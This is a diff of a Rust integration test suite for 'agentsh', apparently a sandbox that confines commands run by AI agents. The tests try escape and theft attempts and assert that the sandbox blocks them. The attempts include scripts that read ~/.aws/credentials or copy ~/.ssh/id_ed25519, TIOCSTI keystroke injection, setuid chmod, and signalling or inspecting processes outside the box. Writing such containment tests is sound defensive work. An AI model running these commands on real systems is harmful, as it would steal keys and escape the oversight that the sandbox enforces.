-    assert_ne!(w.mount_ns(), first, "new namespaces bind what appeared");
-}
-
-/// Where a holder cannot be told apart from a process that took its ID (no pidfs: its record
-/// names no pidfd inode), a joining command adds the rules itself instead of taking the
-/// ruleset at the recorded number, which such a process could fill with a ruleset of its own.
-#[test]
-fn without_the_holders_pidfd_inode_the_rules_are_made_not_taken() {
-    let Some(w) = world_with_namespaces("so there are none to keep") else { return };
-    let first = w.mount_ns();
-    // The record as a kernel without pidfs has it: no inode, and (had the ruleset been taken
-    // anyway) a number that holds no ruleset: the holder's stdin.
-    let records = w.home(".local/state/agentsh/box");
-    let record = std::fs::read_dir(&records).unwrap().flatten().next().expect("a record").path();
-    let body = std::fs::read_to_string(&record).unwrap();
-    let (head, rest) = body.split_once('\n').unwrap();
-    let f: Vec<&str> = head.split(' ').collect();
-    std::fs::write(&record, format!("{} {} 0 0 {}\n{rest}", f[0], f[1], f[4])).unwrap();
-    assert_eq!(w.mount_ns(), first, "joined by the mount namespace's inode");
-    succeeded(&w.script("set -e\ntouch joined-file\n"), "touch in the workspace, rules made");
-    refused_by_box(&w.script("set -e\ntouch ~/joined\n"), "touch in home, rules made");
-}
-
-/// The kept ruleset holds the workspace by its inode: a workspace removed and made again at the
-/// same path is another directory, and commands there get a ruleset that grants it.
-#[test]
-fn a_workspace_made_again_is_writable_with_kept_namespaces() {
-    let Some(w) = world_with_namespaces("so there are none to keep") else { return };
-    // Outside the temp directories, which are writable whole.
-    let base = tempfile::tempdir_in(home_base()).unwrap();
-    let ws = base.path().join("project");
-    // A repository of its own, so the workspace is this directory (not the checkout it is in).
-    std::fs::create_dir(&ws).unwrap();
-    assert!(Command::new("git").args(["init", "-q", "."]).current_dir(&ws).status().unwrap().success());
-    let touch = |name: &str| w.command(&["-c", &format!("touch {name}")]).current_dir(&ws).output().unwrap();
-    succeeded(&touch("before"), "touch in the workspace");
-    succeeded(&touch("again"), "touch in the workspace, joined");
-    // The same repository (its hooks and config, which are watched too, unchanged) in a new
-    // directory.
-    let saved = base.path().join("saved.git");
-    std::fs::rename(ws.join(".git"), &saved).unwrap();
-    std::fs::remove_dir_all(&ws).unwrap();
-    std::fs::create_dir(&ws).unwrap();
-    std::fs::rename(&saved, ws.join(".git")).unwrap();
-    succeeded(&touch("after"), "touch in the workspace made again");
-    assert!(ws.join("after").exists());
-}
-
-/// A working directory inside a hidden path (`~/.ssh`) does not reach behind the mount that hides
-/// it: the command is refused (126) rather than run there, both when the namespaces are made and
-/// when they are joined.
-#[test]
-fn a_working_directory_inside_a_hidden_path_is_refused() {
-    let Some(w) = world_with_namespaces("so there are none to keep") else { return };
-    std::fs::create_dir(w.home(".aws")).unwrap();
-    w.write_home(".aws/credentials", "SECRET\n");
-    w.write_home(".aws/probe.sh", "cat credentials\n");
-    for round in ["made", "joined"] {
-        let out = w.command(&["-c", "sh probe.sh"]).current_dir(w.home(".aws")).output().unwrap();
-        assert!(!text(&out.stdout).contains("SECRET"), "{round}: read a credential through the working directory");
-        // Refused by agentsh (126) where the cover cannot be entered, or run in the empty cover
-        // (root owns it in its namespace), where the script is not found.
-        let err = text(&out.stderr);
-        assert!(!out.status.success(), "{round}: {err}");
-        assert!(err.contains("is hidden inside the sandbox") || err.contains("probe.sh"), "{round}: {err}");
-    }
-}
-
-/// The process that keeps the namespaces holds nothing of the agent's: agentsh's output ends
-/// when the command does (an agent reads it to the end), although the holder lives on.
-#[test]
-fn the_namespace_holder_keeps_no_file_of_the_agent() {
-    let Some(w) = world(false) else { return };
-    // No record yet: this command makes the namespaces and leaves a holder.
-    let records = w.home(".local/state/agentsh/box");
-    let _ = std::fs::remove_dir_all(&records);
-    w.write("probe.sh", "echo ran\n");
-    let child = w.command(&["-c", "sh probe.sh"]).spawn().unwrap();
-    let (tx, rx) = std::sync::mpsc::channel();
-    std::thread::spawn(move || tx.send(child.wait_with_output()));
-    let out = rx
-        .recv_timeout(std::time::Duration::from_secs(30))
-        .expect("agentsh's output stayed open after the command ended: the holder kept it")
-        .unwrap();
-    succeeded(&out, "sh probe.sh");
-    assert_eq!(text(&out.stdout), "ran\n");
-    if agentsh::run::sandbox::probe_namespaces() != agentsh::run::sandbox::Namespaces::Available {
-        return;
-    }
-    // The holder: alive, in a session of its own, with no file open beyond its standard ones
-    // (which are /dev/null) and the box's finished Landlock ruleset, which joining commands take.
-    let record = std::fs::read_dir(&records).unwrap().flatten().next().expect("a record of the kept namespaces");
-    let text_ = std::fs::read_to_string(record.path()).unwrap();
-    let pid: u32 = text_.split_whitespace().next().unwrap().parse().unwrap();
-    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
-    let fields: Vec<&str> = stat.rsplit_once(") ").unwrap().1.split(' ').collect();
-    assert_eq!(fields[3], pid.to_string(), "the holder leads a session of its own: {stat}");
-    for fd in std::fs::read_dir(format!("/proc/{pid}/fd")).unwrap().flatten() {
-        let target = std::fs::read_link(fd.path()).unwrap();
-        let ruleset = Path::new("anon_inode:[landlock-ruleset]");
-        assert!(target == Path::new("/dev/null") || target == ruleset, "the holder keeps {}", target.display());
+        let _ = std::fs::remove_file(w.path(".git/info/attributes"));
+        std::fs::write(w.path(".git/modules/sub/config"), "[core]\n").unwrap();
     }
 }
 
 #[test]
-fn the_network_off_means_no_tcp() {
-    for w in worlds() {
-        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
-        let port = listener.local_addr().unwrap().port();
-        let body = format!(
-            "set -e\n{} -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), timeout=5)'\n",
-            python()
-        );
-        succeeded(&w.script(&body), "connect with the network on");
-        let w = w.sandbox(serde_json::json!({"network": "off"}));
-        attack(&w, "connect with the network off", &body);
-        let bind = format!("set -e\n{} -c 'import socket; socket.socket().bind((\"127.0.0.1\", 0))'\n", python());
-        refused_by_box(&w.script(&bind), "bind with the network off");
+fn a_git_file_naming_a_directory_outside_is_never_granted() {
+    let Some(w) = world() else { return };
+    // `gitdir:` into the person's settings (issue 25: it was granted as writable).
+    std::fs::create_dir_all(w.home(".config/x/objects")).unwrap();
+    w.write(".git", &format!("gitdir: {}\n", w.home(".config/x").display()));
+    let body = format!("set -e\ntouch {}/planted\n", w.home(".config/x").display());
+    refused_by_box(&w.script(&body), "write the git directory a .git file names");
+    assert!(!w.home(".config/x/planted").exists());
+}
+
+/// Metadata (issue 25): Landlock does not mediate chmod, chown, utimes or xattrs; the read-only
+/// view does, and the seccomp filter refuses the set-user-ID bit.
+#[test]
+fn metadata_outside_the_workspace_cannot_change() {
+    let Some(w) = world() else { return };
+    let before = std::fs::metadata(w.home(".gitconfig")).unwrap();
+    for (what, body) in [
+        ("chmod ~/.gitconfig", "chmod 666 ~/.gitconfig"),
+        ("touch -d ~/.gitconfig", "touch -d 2001-01-01 ~/.gitconfig"),
+        ("chmod a system file", "chmod 777 /etc/hostname"),
+    ] {
+        refused_by_box(&w.script(&format!("set -e\n{body}\n")), what);
     }
+    let xattr = format!(
+        "set -e\n{} -c 'import os; os.setxattr(\"{}\", \"user.x\", b\"1\")'\n",
+        python(),
+        w.home(".gitconfig").display()
+    );
+    refused_by_box(&w.script(&xattr), "set an xattr");
+    let after = std::fs::metadata(w.home(".gitconfig")).unwrap();
+    assert_eq!(
+        (before.permissions().mode(), before.modified().unwrap()),
+        (after.permissions().mode(), after.modified().unwrap())
+    );
+    // The set-user-ID bit, even in the workspace.
+    attack(&w, "chmod u+s", "set -e\ncp /bin/true ./t\nchmod u+s ./t\n");
+}
+
+/// The workspace is a project, never wherever a command starts (issue 25: from `~/.config`,
+/// `~/.config` became writable).
+#[test]
+fn the_workspace_is_a_project_not_wherever_a_command_starts() {
+    let Some(w) = world() else { return };
+    for dir in [".config", ".config/tool", "Downloads"] {
+        let d = w.home(dir);
+        std::fs::create_dir_all(&d).unwrap();
+        std::fs::write(d.join("probe.sh"), "set -e\ntouch made-here\n").unwrap();
+        let out = w.command(&["-c", "sh probe.sh"]).current_dir(&d).output().unwrap();
+        refused_by_box(&out, &format!("a write in ~/{dir}"));
+        assert!(!d.join("made-here").exists(), "~/{dir} was writable");
+    }
+    // A project in home: the workspace.
+    let proj = w.home("src/proj");
+    std::fs::create_dir_all(&proj).unwrap();
+    w.git_in(&proj);
+    std::fs::write(proj.join("probe.sh"), "set -e\ntouch made-here\n").unwrap();
+    succeeded(&w.command(&["-c", "sh probe.sh"]).current_dir(&proj).output().unwrap(), "a write in a project");
+    assert!(proj.join("made-here").exists());
+}
+
+// ---------------------------------------------------------------------------------------------
+// Processes, IPC, keyrings, terminals
+
+#[test]
+fn the_persons_processes_and_ipc_are_out_of_reach() {
+    let Some(w) = world() else { return };
+    for (what, body) in [
+        ("read its command line", "cat /proc/PID/cmdline"),
+        ("renice it", "renice -n 5 -p PID"),
+        ("lower its limits", "prlimit --pid PID --nofile=1"),
+        ("kill it", "kill -TERM PID"),
+    ] {
+        let mut outside = Command::new("sleep").arg("30").spawn().unwrap();
+        let body = body.replace("PID", &outside.id().to_string());
+        refused_by_box(&w.script(&format!("set -e\n{body}\n")), what);
+        assert!(outside.try_wait().unwrap().is_none(), "{what}: the process outside was killed");
+        succeeded(&w.unboxed(&format!("set -e\n{body}\n")), &format!("{what} (without the sandbox)"));
+        let _ = outside.kill();
+        let _ = outside.wait();
+    }
+    // Its own children it may signal; it sees only the box's processes.
+    succeeded(&w.script("set -e\nsleep 30 &\nkill $!\n"), "kill of its own child");
+    let out = w.script("ls /proc | grep -c '^[0-9]'\n");
+    assert!(text(&out.stdout).trim().parse::<u32>().unwrap() < 10, "{}", text(&out.stdout));
+    // SysV shared memory made outside is not in the box's IPC namespace.
+    if let Ok(made) = Command::new("ipcmk").args(["-M", "4096"]).output()
+        && made.status.success()
+    {
+        let id = text(&made.stdout).split_whitespace().last().unwrap_or("").to_string();
+        let out = w.script("ipcs -m\n");
+        assert!(!text(&out.stdout).contains(&format!(" {id} ")), "{}", text(&out.stdout));
+        let _ = Command::new("ipcrm").args(["-m", &id]).status();
+    }
+}
+
+#[test]
+fn keyrings_ptrace_and_io_uring_are_refused() {
+    let Some(w) = world() else { return };
+    let (keyctl, ptrace, io_uring) = match std::env::consts::ARCH {
+        "x86_64" => (250, 101, 425),
+        "aarch64" => (219, 117, 425),
+        _ => return,
+    };
+    // KEYCTL_GET_KEYRING_ID of the session keyring (-3); PTRACE_TRACEME; io_uring_setup(1, NULL).
+    let body = format!(
+        "set -e\n{} - <<'EOF'\nimport ctypes, sys\nlibc = ctypes.CDLL(None, use_errno=True)\nfails = 0\nfor name, call, args in [('keyctl', {keyctl}, (0, -3, 0)), ('ptrace', {ptrace}, (0, 0, 0, 0)), ('io_uring', {io_uring}, (1, 0))]:\n    if libc.syscall(call, *args) == -1 and ctypes.get_errno() == 1:\n        print(name, 'refused'); fails += 1\nsys.exit(0 if fails == 3 else 1)\nEOF\n",
+        python()
+    );
+    let out = w.script(&body);
+    succeeded(&out, "keyctl, ptrace and io_uring refused with EPERM");
+    assert_eq!(text(&out.stdout), "keyctl refused\nptrace refused\nio_uring refused\n");
+}
+
+#[test]
+fn a_fork_storm_stays_in_the_box() {
+    let Some(w) = world() else { return };
+    let out =
+        w.script(&format!("{} -c 'import resource; print(resource.getrlimit(resource.RLIMIT_NPROC)[0])'\n", python()));
+    assert_eq!(text(&out.stdout).trim(), agentsh::run::sandbox::spawn::MAX_PROCESSES.to_string());
 }
 
 /// A confined background job cannot push keystrokes into a terminal: not through one it opens
-/// (the person's, where a later prompt will be), nor through one it inherited (root included:
-/// it has no CAP_SYS_ADMIN in its own user namespace).
+/// (the person's), nor through one it inherited (root included), nor its own kept terminal.
 #[test]
 fn a_confined_job_cannot_inject_keystrokes() {
-    for w in worlds() {
-        cannot_inject(&w);
-    }
-}
-
-fn cannot_inject(w: &World) {
+    let Some(w) = world() else { return };
     let pty = nix::pty::openpty(None, None).unwrap();
     let tty = nix::unistd::ttyname(&pty.slave).unwrap();
-    // Each attempt prints where it stopped: `open` or `ioctl` with the errno, or `injected`.
     let inject = format!(
         r#"{py} - <<'EOF'
 import fcntl, os, termios
@@ -608,21 +667,7 @@ EOF
         py = python(),
         tty = tty.display()
     );
-    // A background job, left behind, with agentsh's stderr on the terminal (as an agent's can be).
     let body = format!("( {inject} ) > job.out &\nwait\n");
-    let job = |unboxed: bool| -> String {
-        w.write("probe.sh", &body);
-        if unboxed {
-            return text(&w.unboxed(&body).stdout) + &std::fs::read_to_string(w.path("job.out")).unwrap_or_default();
-        }
-        let mut c =
-            if w.landlock_only { w.internal(std::slice::from_ref(&tty)) } else { w.command(&["-c", "sh probe.sh"]) };
-        c.stderr(Stdio::from(pty.slave.try_clone().unwrap()));
-        let out = c.output().unwrap();
-        assert!(out.status.success(), "{}", text(&out.stdout));
-        std::fs::read_to_string(w.path("job.out")).unwrap()
-    };
-    // Raw and non-blocking, so an injected byte can be read back at once.
     let mut raw = nix::sys::termios::tcgetattr(&pty.slave).unwrap();
     nix::sys::termios::cfmakeraw(&mut raw);
     nix::sys::termios::tcsetattr(&pty.slave, nix::sys::termios::SetArg::TCSANOW, &raw).unwrap();
@@ -631,219 +676,364 @@ EOF
         let mut buf = [0u8; 16];
         nix::unistd::read(&pty.slave, &mut buf).map(|n| buf[..n].to_vec()).unwrap_or_default()
     };
-    let inside = job(false);
-    if w.landlock_only {
-        // The terminal agentsh writes to may be reopened for writing, never for ioctls
-        // (Landlock ABI 5: EACCES).
-        assert!(inside.contains("reopened ioctl 13\n"), "{inside}");
-        if nix::unistd::geteuid().is_root() {
-            // Without a user namespace root keeps CAP_SYS_ADMIN, which TIOCSTI honours on an
-            // inherited terminal: a known limit of this fallback (SECURITY.md).
-            let _ = typed();
-            return;
-        }
-    } else {
-        // The person's terminal cannot be reopened (/dev/pts is nodev in the box's mount
-        // namespace, and Landlock grants no write there).
-        assert!(inside.contains("reopened open 13\n"), "{inside}");
-    }
-    // The inherited descriptor: EPERM (no controlling terminal, and no CAP_SYS_ADMIN, root
-    // included in its user namespace), or EIO where legacy TIOCSTI is off.
-    assert!(inside.contains("inherited ioctl 1\n") || inside.contains("inherited ioctl 5\n"), "{inside}");
+    w.write("probe.sh", &body);
+    let out = w.command(&["-c", "sh probe.sh"]).stderr(Stdio::from(pty.slave.try_clone().unwrap())).output().unwrap();
+    assert!(out.status.success(), "{}", text(&out.stdout));
+    let inside = std::fs::read_to_string(w.path("job.out")).unwrap();
+    // The terminal agentsh writes to is reopened for writing only; TIOCSTI is refused by the
+    // seccomp filter (EPERM), on it and on the inherited descriptor alike.
+    assert!(inside.contains("reopened ioctl 1\n"), "{inside}");
+    assert!(inside.contains("inherited ioctl 1\n"), "{inside}");
     assert!(typed().is_empty(), "input reached the terminal");
-    // Without the box the same job gets as far as the ioctl, and where the kernel lets it (as
-    // root), the byte arrives: the check above could see it.
-    let outside = job(true);
-    assert!(outside.contains("reopened ioctl") || outside.contains("reopened injected"), "{outside}");
-    if outside.contains("reopened injected") {
-        assert_eq!(typed(), b"X");
-    }
+    // A command that keeps the terminal (agentsh's stdin is one) cannot push keys into it either.
+    let out = w.command(&["-c", "sh probe.sh"]).stdin(Stdio::from(pty.slave.try_clone().unwrap())).output().unwrap();
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let kept = std::fs::read_to_string(w.path("job.out")).unwrap();
+    assert!(kept.contains("inherited ioctl 1\n"), "{kept}");
+    assert!(typed().is_empty(), "input reached the kept terminal");
 }
 
-/// The person's terminals stay closed to a command that does not keep the terminal.
+/// The person's other terminals stay closed (issue 25: `/dev/pts` was granted whole).
 #[test]
 fn other_terminals_cannot_be_opened() {
-    for w in worlds() {
-        let pty = nix::pty::openpty(None, None).unwrap();
-        let tty = nix::unistd::ttyname(&pty.slave).unwrap();
-        attack(
-            &w,
-            "open another terminal",
-            &format!("set -e\ncat {} &\nsleep 0.2; kill $! 2>/dev/null || wait $!\n", tty.display()),
-        );
-        attack(&w, "write to another terminal", &format!("set -e\necho hi > {}\n", tty.display()));
-    }
+    let Some(w) = world() else { return };
+    let pty = nix::pty::openpty(None, None).unwrap();
+    let tty = nix::unistd::ttyname(&pty.slave).unwrap();
+    attack(&w, "read another terminal", &format!("set -e\ntimeout 1 cat {} || [ $? = 124 ]\n", tty.display()));
+    attack(&w, "write to another terminal", &format!("set -e\necho hi > {}\n", tty.display()));
+    // Even a command that keeps its own terminal sees no other.
+    w.write("probe.sh", &format!("set -e\necho hi > {}\n", tty.display()));
+    let own = nix::pty::openpty(None, None).unwrap();
+    let out = w.command(&["-c", "sh probe.sh"]).stdin(Stdio::from(own.slave)).output().unwrap();
+    refused_by_box(&out, "write to another terminal, keeping one's own");
 }
 
-fn python() -> &'static str {
-    if Path::new("/usr/bin/python3").exists() { "/usr/bin/python3" } else { "python3" }
+#[test]
+fn a_leftover_process_stays_in_the_box() {
+    let Some(w) = world() else { return };
+    let mark = w.home("late-escape");
+    let body = format!(
+        "(sleep 1; touch {} 2>/dev/null; cat ~/.ssh/id_ed25519 > {}/leaked 2>/dev/null) >/dev/null 2>&1 &\n",
+        mark.display(),
+        w.ws.path().display()
+    );
+    succeeded(&w.script(&body), "leave a job behind");
+    std::thread::sleep(Duration::from_secs(3));
+    assert!(!mark.exists(), "the job wrote home after its command ended");
+    assert_eq!(std::fs::read_to_string(w.path("leaked")).unwrap_or_default(), "", "the job read a key");
 }
 
-// Everyday work: each must succeed inside the box.
+// ---------------------------------------------------------------------------------------------
+// Everyday work: each must succeed inside the box
 
 #[test]
 fn files_in_the_workspace_and_temp() {
-    for w in worlds() {
-        let out = w.script(&format!("set -e\ntouch ./x\nmkdir -p build/a && echo hi > build/a/out.txt\nt=$(mktemp)\necho y > \"$t\"\nrm \"$t\"\nmv build/a/out.txt build/out.txt\n{INSIDE}"));
-        succeeded(&out, "files in the workspace and /tmp");
-        assert!(w.path("x").exists() && w.path("build/out.txt").exists());
-        // `agentsh -c` straight, as an agent runs it.
-        succeeded(&w.run("touch ./y"), "touch ./y");
-        assert!(w.path("y").exists());
-    }
+    let Some(w) = world() else { return };
+    let out = w.script(&format!("set -e\ntouch ./x\nmkdir -p build/a && echo hi > build/a/out.txt\nt=$(mktemp)\necho y > \"$t\"\nrm \"$t\"\nmv build/a/out.txt build/out.txt\n{INSIDE}"));
+    succeeded(&out, "files in the workspace and /tmp");
+    assert!(w.path("x").exists() && w.path("build/out.txt").exists());
+    succeeded(&w.run("touch ./y"), "touch ./y");
+    assert!(w.path("y").exists());
 }
 
 #[test]
-fn cargo_build() {
-    for w in worlds() {
-        w.write("Cargo.toml", "[package]\nname = \"fixture\"\nversion = \"0.1.0\"\nedition = \"2021\"\n");
-        w.write("src/main.rs", "fn main() { println!(\"built\"); }\n");
-        let out = w.script(&format!("set -e\ncargo build --offline -q\n./target/debug/fixture\n{INSIDE}"));
-        succeeded(&out, "cargo build");
-        assert_eq!(text(&out.stdout), "built\n");
-    }
+fn cargo_build_with_a_dependency_from_the_registry_cache() {
+    let Some(w) = world() else { return };
+    w.write(
+        "Cargo.toml",
+        "[package]\nname = \"fixture\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nitoa = \"1\"\n",
+    );
+    w.write("src/main.rs", "fn main() { println!(\"built {}\", itoa::Buffer::new().format(7)); }\n");
+    let out = w.script(&format!("set -e\ncargo build --offline -q\n./target/debug/fixture\n{INSIDE}"));
+    succeeded(&out, "cargo build");
+    assert_eq!(text(&out.stdout), "built 7\n");
 }
 
 #[test]
 fn pytest() {
-    for w in worlds() {
-        w.write("test_math.py", "def test_add():\n    assert 1 + 1 == 2\n");
-        let has_pytest = Command::new(python()).args(["-c", "import pytest"]).status().is_ok_and(|s| s.success());
-        let run = if has_pytest {
-            format!("{} -m pytest -q", python())
-        } else {
-            // CI installs pytest (.ci/run); elsewhere the same test file through unittest.
-            eprintln!("pytest is not installed: running the test with unittest");
-            format!("{} -m unittest test_math", python())
-        };
-        succeeded(&w.script(&format!("set -e\n{run}\n{INSIDE}")), &run);
-    }
+    let Some(w) = world() else { return };
+    w.write("test_math.py", "def test_add():\n    assert 1 + 1 == 2\n");
+    let has_pytest = Command::new(python()).args(["-c", "import pytest"]).status().is_ok_and(|s| s.success());
+    let run = if has_pytest {
+        format!("{} -m pytest -q -p no:cacheprovider", python())
+    } else {
+        // CI installs pytest (.ci/run); elsewhere the same test file through unittest.
+        eprintln!("pytest is not installed: running the test with unittest");
+        format!("{} -m unittest test_math", python())
+    };
+    succeeded(&w.script(&format!("set -e\n{run}\n{INSIDE}")), &run);
 }
 
 #[test]
-fn npm_test() {
-    for w in worlds() {
-        if Command::new("npm").arg("--version").output().is_err() {
-            skip("npm is not installed");
-            return;
-        }
-        w.write("package.json", r#"{"name": "fixture", "version": "1.0.0", "scripts": {"test": "node test.js"}}"#);
-        w.write("test.js", "require('fs').writeFileSync('tested', 'yes'); console.log('ok');\n");
-        succeeded(&w.script(&format!("set -e\nnpm test --silent\n{INSIDE}")), "npm test");
-        assert!(w.path("tested").exists());
+fn npm_test_and_install_from_the_cache() {
+    let Some(w) = world() else { return };
+    if Command::new("npm").arg("--version").output().is_err() {
+        skip("npm is not installed");
+        return;
     }
+    w.write("package.json", r#"{"name": "fixture", "version": "1.0.0", "scripts": {"test": "node test.js"}}"#);
+    w.write("test.js", "require('fs').writeFileSync('tested', 'yes'); console.log('ok');\n");
+    succeeded(&w.script(&format!("set -e\nnpm test --silent\n{INSIDE}")), "npm test");
+    assert!(w.path("tested").exists());
+    // A package the person's cache holds installs with no network.
+    let cached = Command::new("npm")
+        .args(["cache", "add", "is-number@7.0.0"])
+        .env("HOME", w.home.path())
+        .env("npm_config_cache", w.home(".npm"))
+        .output();
+    if !cached.is_ok_and(|o| o.status.success()) {
+        skip("the npm registry cannot be reached to fill the cache");
+        return;
+    }
+    // A box shows the caches as they were when it was made (an overlay does not follow changes
+    // made under it since): the next box shows this one.
+    let _ = std::fs::remove_dir_all(w.records());
+    let out = w.script(&format!("set -e\nnpm install --offline --no-audit --no-fund is-number@7.0.0\n{INSIDE}"));
+    succeeded(&out, "npm install from the cache");
+    assert!(w.path("node_modules/is-number/package.json").exists());
 }
 
 #[test]
 fn make() {
-    for w in worlds() {
-        w.write("Makefile", "out.txt: in.txt\n\tcp in.txt out.txt\n");
-        w.write("in.txt", "x\n");
-        succeeded(&w.script(&format!("set -e\nmake -s\n{INSIDE}")), "make");
-        assert!(w.path("out.txt").exists());
-    }
+    let Some(w) = world() else { return };
+    w.write("Makefile", "out.txt: in.txt\n\tcp in.txt out.txt\n");
+    w.write("in.txt", "x\n");
+    succeeded(&w.script(&format!("set -e\nmake -s\n{INSIDE}")), "make");
+    assert!(w.path("out.txt").exists());
 }
 
 #[test]
 fn git_add_and_commit() {
-    for w in worlds() {
-        let w = w.git();
-        w.write("new.txt", "new\n");
-        let out = w.script(&format!(
-            "set -e\ngit add new.txt\ngit commit -qm 'from the box'\ngit log --oneline | head -1\n{INSIDE}"
-        ));
-        succeeded(&out, "git add and commit");
-        assert!(text(&out.stdout).contains("from the box"), "{}", text(&out.stdout));
+    let Some(w) = world() else { return };
+    let w = w.git();
+    w.write("new.txt", "new\n");
+    let out = w.script(&format!(
+        "set -e\ngit add new.txt\ngit commit -qm 'from the box'\ngit log --oneline | head -1\n{INSIDE}"
+    ));
+    succeeded(&out, "git add and commit");
+    assert!(text(&out.stdout).contains("from the box"), "{}", text(&out.stdout));
+}
+
+/// A dev server left running in the background by one command answers the next: both are in
+/// the same kept box.
+#[test]
+fn a_dev_server_in_the_background_serves_the_next_command() {
+    let Some(w) = world() else { return };
+    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
+    w.write("index.html", "served\n");
+    let start = format!("{} -m http.server {port} --bind 127.0.0.1 >/dev/null 2>&1 &\nsleep 1\n", python());
+    succeeded(&w.script(&start), "start a dev server");
+    let out = w.script(&format!("set -e\ncurl -s http://127.0.0.1:{port}/index.html\n"));
+    succeeded(&out, "reach it from the next command");
+    assert_eq!(text(&out.stdout), "served\n");
+    let _ = w.script(&format!("pkill -f 'http.server {port}'\n"));
+}
+
+// ---------------------------------------------------------------------------------------------
+// Kept boxes
+
+/// Each box is kept for the next commands (run/sandbox/holder.rs): a later command joins it
+/// while nothing its view was made from has changed, whichever directory of the project it
+/// starts in, and gets a new one as soon as something has (`.git/config` rewritten by the
+/// person's git, by rename, which detaches a mount on the old file).
+#[test]
+fn a_box_is_kept_per_workspace_while_what_it_shows_is_unchanged() {
+    let Some(w) = world() else { return };
+    let w = w.git();
+    let _ = std::fs::remove_dir_all(w.records());
+    let first = w.mount_ns();
+    assert_eq!(w.mount_ns(), first, "a second command joins the first one's box");
+    std::fs::create_dir_all(w.path("sub/dir")).unwrap();
+    w.write("sub/dir/probe.sh", "readlink /proc/self/ns/mnt\n");
+    let out = w.command(&["-c", "sh probe.sh"]).current_dir(w.path("sub/dir")).output().unwrap();
+    assert_eq!(text(&out.stdout), first, "another directory of the same project joins the same box");
+    succeeded(&w.script("set -e\ntouch joined-file\n"), "touch in the workspace, joined");
+    assert!(w.path("joined-file").exists());
+
+    let git = Command::new("git").args(["config", "test.key", "1"]).current_dir(w.ws.path()).status().unwrap();
+    assert!(git.success());
+    refused_by_box(&w.script("set -e\necho '[core] fsmonitor = x' >> .git/config\n"), "a .git/config replaced since");
+    assert!(!std::fs::read_to_string(w.path(".git/config")).unwrap().contains("fsmonitor"));
+    assert_ne!(w.mount_ns(), first, "a new box binds the new file");
+    // One record, however many directories.
+    let records: Vec<_> = std::fs::read_dir(w.records())
+        .unwrap()
+        .flatten()
+        .filter(|e| e.path().is_file() && !e.file_name().to_string_lossy().ends_with(".lock"))
+        .collect();
+    assert_eq!(records.len(), 1, "{records:?}");
+}
+
+/// The process that keeps a box holds nothing of the agent's: agentsh's output ends when the
+/// command does, although the holder lives on. It is PID 1 of the box, named in `ps`.
+#[test]
+fn the_holder_keeps_no_file_of_the_agent() {
+    let Some(w) = world() else { return };
+    let _ = std::fs::remove_dir_all(w.records());
+    w.write("probe.sh", "echo ran\n");
+    let child = w.command(&["-c", "sh probe.sh"]).spawn().unwrap();
+    let (tx, rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || tx.send(child.wait_with_output()));
+    let out = rx
+        .recv_timeout(Duration::from_secs(30))
+        .expect("agentsh's output stayed open after the command ended: the holder kept it")
+        .unwrap();
+    succeeded(&out, "sh probe.sh");
+    assert_eq!(text(&out.stdout), "ran\n");
+    let record = std::fs::read_dir(w.records())
+        .unwrap()
+        .flatten()
+        .find(|e| e.path().is_file() && !e.file_name().to_string_lossy().ends_with(".lock"))
+        .expect("a record of the kept box");
+    let pid: u32 = std::fs::read_to_string(record.path()).unwrap().split_whitespace().next().unwrap().parse().unwrap();
+    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
+    assert!(stat.contains("(agentsh-box)"), "named in ps: {stat}");
+    let fields: Vec<&str> = stat.rsplit_once(") ").unwrap().1.split(' ').collect();
+    assert_eq!(fields[3], pid.to_string(), "the holder leads a session of its own: {stat}");
+    for fd in std::fs::read_dir(format!("/proc/{pid}/fd")).unwrap().flatten() {
+        let target = std::fs::read_link(fd.path()).unwrap();
+        let ok = target == Path::new("anon_inode:[landlock-ruleset]")
+            || target.starts_with(w.records())
+            || target.to_string_lossy().starts_with("anon_inode:[signalfd]");
+        assert!(ok, "the holder keeps {}", target.display());
     }
 }
 
+/// Commands that start together agree on one box (issue 27: 128 agents started 14 holders).
+#[test]
+fn commands_that_start_together_share_one_box() {
+    let Some(w) = world() else { return };
+    let _ = std::fs::remove_dir_all(w.records());
+    w.write("probe.sh", "readlink /proc/self/ns/mnt\n");
+    let children: Vec<_> = (0..8).map(|_| w.command(&["-c", "sh probe.sh"]).spawn().unwrap()).collect();
+    let outs: Vec<String> = children.into_iter().map(|c| text(&c.wait_with_output().unwrap().stdout)).collect();
+    assert!(outs.iter().all(|o| *o == outs[0] && !o.is_empty()), "{outs:?}");
+}
+
+/// A record is read only as a small regular file of this user's (issue 27): a FIFO, a link to
+/// `/dev/zero` or a directory in its place never hangs or fills memory; the box is made anew.
+#[test]
+fn a_planted_record_neither_hangs_nor_is_trusted() {
+    let Some(w) = world() else { return };
+    let w = w.git();
+    let _ = w.mount_ns();
+    let record = std::fs::read_dir(w.records())
+        .unwrap()
+        .flatten()
+        .find(|e| e.path().is_file() && !e.file_name().to_string_lossy().ends_with(".lock"))
+        .unwrap()
+        .path();
+    for plant in ["fifo", "zero", "dir"] {
+        let _ = std::fs::remove_file(&record).or_else(|_| std::fs::remove_dir_all(&record));
+        match plant {
+            "fifo" => nix::unistd::mkfifo(&record, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap(),
+            "zero" => std::os::unix::fs::symlink("/dev/zero", &record).unwrap(),
+            _ => std::fs::create_dir(&record).unwrap(),
+        }
+        let mut c = w.command(&["-c", "echo ok"]);
+        let child = c.spawn().unwrap();
+        let (tx, rx) = std::sync::mpsc::channel();
+        std::thread::spawn(move || tx.send(child.wait_with_output()));
+        let out = rx.recv_timeout(Duration::from_secs(20)).unwrap_or_else(|_| panic!("{plant}: agentsh hung")).unwrap();
+        // Refused with a message naming the cause where the planted entry is in the way, or run.
+        assert!(out.status.success() || text(&out.stderr).contains("agentsh"), "{plant}: {}", text(&out.stderr));
+        let leftovers: Vec<_> = std::fs::read_dir(w.records())
+            .unwrap()
+            .flatten()
+            .filter(|e| e.file_name().to_string_lossy().ends_with(".tmp"))
+            .collect();
+        assert!(leftovers.is_empty(), "{plant}: temp files left: {leftovers:?}");
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// What is recorded
+
 #[test]
 fn a_supervised_command_is_boxed_too() {
